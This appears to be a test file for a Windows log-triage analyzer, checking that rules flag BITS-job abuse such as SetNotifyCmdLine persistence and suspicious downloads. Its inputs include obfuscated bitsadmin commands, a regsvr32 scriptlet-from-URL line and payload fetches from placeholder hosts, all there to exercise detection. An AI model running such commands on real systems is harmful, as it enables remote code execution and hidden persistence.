import t from 'tap'
import {analyze, loadRules} from '../../src/analyzers/index.js'
import {parseBitsCommands, normaliseCommandLine} from '../../src/analyzers/text/cmdline.js'
import {security4688, sysmonProcess} from './fixtures/events.js'
import type {TriageEvent} from '../../src/model/event.js'

const rules = loadRules()

async function only(commandLine: string, image = 'C:\\Windows\\System32\\bitsadmin.exe'): Promise<Array<[string, string, string]>> {
  const e = sysmonProcess(10, '2024-03-01T10:00:00Z', {image, commandLine, user: 'CORP\\bob', parentImage: 'C:\\Windows\\System32\\cmd.exe'}, {host: 'WS1'})
  const r = await analyze([e], {rules})
  return r.findings.map(f => [f.rule, f.severity, f.techniques.join(',')])
}

t.test('normalisation undoes obfuscation', async t => {
  t.equal(normaliseCommandLine('B^iTs"Ad"min  –SetNotifyCmdLine  "j" '), 'bitsadmin /setnotifycmdline j')
  t.same(parseBitsCommands('bitsadmin /SetNotifyCmdLine myjob "C:\\Windows\\system32\\cmd.exe" "cmd.exe /c calc.exe"'), [
    {tool: 'bitsadmin', verb: 'setnotifycmdline', job: 'myjob', urls: [], localFiles: [], notifyProgram: 'C:\\Windows\\system32\\cmd.exe', notifyParameters: 'cmd.exe /c calc.exe', clearsNotify: false},
  ])
  t.same(parseBitsCommands('bitsadmin /transfer dl /download /priority high https://x.test/a.zip C:\\t\\a.zip').map(c => [c.verb, c.job, c.urls, c.localFiles]), [
    ['transfer', 'dl', ['https://x.test/a.zip'], ['C:\\t\\a.zip']],
  ])
  t.same(parseBitsCommands('cmd /c "bitsadmin /create j & bitsadmin /addfile j http://1.2.3.4/p.ps1 C:\\p.ps1"').map(c => c.verb), ['create', 'addfile'])
  t.same(parseBitsCommands('Start-Bi`tsTransfer -Source https://a.test/x.exe -Destination $env:TEMP\\x.exe').map(c => [c.tool, c.verb, c.urls]), [
    ['powershell', 'start-bitstransfer', ['https://a.test/x.exe']],
  ])
})

t.test('SetNotifyCmdLine is high T1197 in every spelling', async t => {
  for (const cl of [
    'bitsadmin /SetNotifyCmdLine backdoor C:\\Windows\\system32\\cmd.exe "cmd.exe /c notepad.exe"',
    'BITSADMIN.EXE -setnotifycmdline backdoor %COMSPEC% "/c calc"',
    'b^i^t^s^a^d^m^i^n /S^etNotifyCmdLine backdoor regsvr32.exe "/s /i:http://x.test/a.sct scrobj.dll"',
    '"C:\\Windows\\System32\\bitsadmin.exe" /SETNOTIFYCMDLINE "back door" "C:\\Users\\Public\\u.exe" NULL',
    'cmd /c bitsadmin /create j & bitsadmin /SetNotifyCmdLine j C:\\x.exe NULL & bitsadmin /resume j',
  ]) {
    t.same(await only(cl), [['bits-cmd-set-notify', 'high', 'T1197']], cl)
  }
})

t.test('clearing the notify command is not persistence', async t => {
  t.same(await only('bitsadmin /SetNotifyCmdLine backdoor NULL NULL'), [])
})

t.test('downloads, odd transfers, local-path sources and tuning', async t => {
  t.same(await only('bitsadmin /transfer myDownloadJob /download /priority normal https://download.example.com/tool.zip C:\\Tools\\tool.zip'), [['bits-cmd-download', 'low', 'T1105,T1197']])
  t.same(await only('bitsadmin /transfer j http://185.10.10.10/payload.bin C:\\Windows\\Temp\\x.bin'), [['bits-cmd-suspicious-transfer', 'medium', 'T1105,T1197']])
  t.same(await only('bitsadmin /transfer j https://pastebin.com/raw/abc C:\\data\\a.txt'), [['bits-cmd-suspicious-transfer', 'medium', 'T1105,T1197']])
  t.same(await only('bitsadmin /transfer j https://cdn.example.com/setup.exe D:\\setup.exe'), [['bits-cmd-suspicious-transfer', 'medium', 'T1105,T1197']])
  t.same(await only('bitsadmin /addfile backdoor C:\\Windows\\system32\\cmd.exe C:\\Users\\Public\\cmd.exe'), [['bits-cmd-local-path-source', 'high', 'T1197']])
  t.same(await only('bitsadmin /SetMinRetryDelay backdoor 60'), [['bits-cmd-retry-tuning', 'medium', 'T1197']])
  t.same(await only('bitsadmin /SetNoProgressTimeout backdoor 99999999'), [['bits-cmd-retry-tuning', 'medium', 'T1197']])
  t.same(await only('bitsadmin /resume backdoor'), [['bits-cmd-job-management', 'low', 'T1197']])
  t.same(await only('bitsadmin /complete backdoor'), [['bits-cmd-job-management', 'low', 'T1197']])
  t.same(await only('bitsadmin /list /allusers /verbose'), [])
})

t.test('PowerShell and COM', async t => {
  const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
  t.same(await only('powershell -c "Start-BitsTransfer -Source https://raw.githubusercontent.com/x/y/main/a.ps1 -Destination $env:TEMP\\a.ps1"', ps), [['bits-cmd-suspicious-transfer', 'medium', 'T1105,T1197']])
  t.same(await only('powershell Start-BitsTransfer -Source https://download.example.com/report.pdf -Destination D:\\r\\report.pdf', ps), [['bits-cmd-download', 'low', 'T1105,T1197']])
  t.same(await only('pwsh -c Get-BitsTransfer | Set-BitsTransfer -Priority High', ps), [['bits-cmd-job-management', 'low', 'T1197']])
  const block: TriageEvent = {
    source: {path: 'PowerShell.evtx', kind: 'evtx', record: 5},
    time: '2024-03-01T10:00:00Z',
    category: 'process',
    action: 'powershell-script-block',
    eventId: 4104,
    data: {ScriptBlockText: '$m = New-Object -ComObject ...; $job.SetNotifyCmdLine("C:\\Users\\Public\\u.exe", "")'},
  }
  const r = await analyze([block], {rules})
  t.same(r.findings.map(f => [f.rule, f.severity]), [['bits-cmd-set-notify', 'high']])
})

t.test('Security 4688 command lines are read the same way', async t => {
  const e = security4688(9, '2024-03-01T10:00:00Z', {image: 'C:\\Windows\\System32\\bitsadmin.exe', commandLine: 'bitsadmin /SetNotifyCmdLine j "C:\\ProgramData\\u.exe" NULL', user: 'CORP\\bob'})
  const r = await analyze([e], {rules})
  t.same(r.findings.map(f => [f.rule, f.severity, f.evidence]), [['bits-cmd-set-notify', 'high', [{path: 'Security.evtx', kind: 'evtx', record: 9}]]])
  t.same(r.findings[0]!.indicators.jobTitles, ['j'])
  t.same(r.findings[0]!.indicators.paths, ['c:\\windows\\system32\\bitsadmin.exe', 'c:\\programdata\\u.exe'])
})
